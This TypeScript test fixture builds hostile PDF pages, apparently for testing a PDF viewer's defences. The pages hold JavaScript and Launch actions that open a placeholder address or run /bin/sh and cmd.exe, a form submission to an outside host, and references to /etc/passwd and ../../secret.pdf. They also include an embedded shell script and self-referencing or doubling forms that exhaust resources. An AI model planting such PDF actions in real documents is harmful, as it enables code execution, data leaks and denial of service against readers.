import { onePage } from '../../support/pdf-write.ts'

/** Somewhere that no test may reach. */
const away = 'http://203.0.113.7/art'

/** Pages that try to run, to fetch or to open something, or to go on for ever. */
export const hostilePages: Readonly<Record<string, () => Uint8Array>> = {
  'scripts when it opens, when it is shown, in a field': () =>
    onePage(pdf => {
      const script = pdf.add(`<< /S /JavaScript /JS (app.launchURL("${away}"); this.getURL("${away}")) >>`)
      const field = pdf.add(
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 9 9] /AA << /E ${script} /F ${script} >> >>`,
      )
      return {
        content: '0 1 0 0 k 10 10 50 50 re f',
        page: `/AA << /O ${script} >> /Annots [${field}]`,
        catalog: `/OpenAction ${script} /Names << /JavaScript << /Names [(a) ${script}] >> >> /AcroForm << /Fields [${field}] /XFA [] >>`,
      }
    }),

  'actions that start a program, open a file and send a form': () =>
    onePage(pdf => {
      const launch = pdf.add('<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>')
      const link = (action: string): string =>
        pdf.add(`<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A ${action} >>`)
      return {
        content: '0 1 0 0 k 10 10 50 50 re f',
        page: `/Annots [${link(`<< /S /URI /URI (${away}) >>`)} ${link('<< /S /GoToR /F (../../secret.pdf) /D [0 /Fit] >>')} ${link(`<< /S /SubmitForm /F << /FS /URL /F (${away}) >> >>`)}]`,
        catalog: `/OpenAction ${launch}`,
      }
    }),

  'data that lie in other files': () =>
    onePage(pdf => {
      const url = `<< /Type /Filespec /FS /URL /F (${away}) >>`
      const image = pdf.stream(
        `/Type /XObject /Subtype /Image /Width 2 /Height 2 /BitsPerComponent 8 /ColorSpace /DeviceGray /F ${url}`,
        '\x00\x40\x80\xff',
      )
      const form = pdf.stream(
        `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F ${url} /Page 0 >> /OPI << /2.0 << /Type /OPI /Version 2.0 /F (/etc/passwd) >> >>`,
        '1 0 0 0 k 0 0 9 9 re f',
      )
      return { content: '/I Do /X Do', resources: `/XObject << /I ${image} /X ${form} >>` }
    }),

  'files inside the file': () =>
    onePage(pdf => {
      const inside = pdf.stream('/Type /EmbeddedFile /Subtype /application#2Fx-sh', '#!/bin/sh\nexit 1\n')
      const spec = pdf.add(`<< /Type /Filespec /F (run.sh) /EF << /F ${inside} >> >>`)
      return {
        content: '0 0 1 0 k 10 10 50 50 re f',
        catalog: `/Names << /EmbeddedFiles << /Names [(run.sh) ${spec}] >> >> /AF [${spec}]`,
      }
    }),

  'a form that paints itself': () =>
    onePage(pdf => {
      const first = pdf.stream(
        '/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << /XObject << /X 2 0 R >> >>',
        '/X Do /X Do',
      )
      const second = pdf.stream(
        `/Type /XObject /Subtype /Form /BBox [0 0 99 99] /Resources << /XObject << /X ${first} >> >>`,
        '/X Do /X Do',
      )
      return { content: '/X Do', resources: `/XObject << /X ${second} >>` }
    }),

  'a glyph that shows itself': () =>
    onePage(pdf => {
      const glyph = pdf.stream('', '1000 0 d0 BT /T 1 Tf (a) Tj (a) Tj ET')
      const font = pdf.add(
        `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [1] /CharProcs << /a ${glyph} >> /Encoding << /Differences [97 /a] >> >>`,
      )
      return { content: 'BT /T 9 Tf (aaa) Tj ET', resources: `/Font << /T ${font} >>` }
    }),
}

/** A page of one square, painted by forms of which each paints the one before it twice. */
export const doublingForms = (doublings: number): Uint8Array =>
  onePage(pdf => {
    let last = pdf.stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9]', '0 0 9 9 re f')
    for (let i = 0; i < doublings; i++)
      last = pdf.stream(
        `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X ${last} >> >>`,
        '/X Do /X Do',
      )
    return { content: '/X Do', resources: `/XObject << /X ${last} >>` }
  })
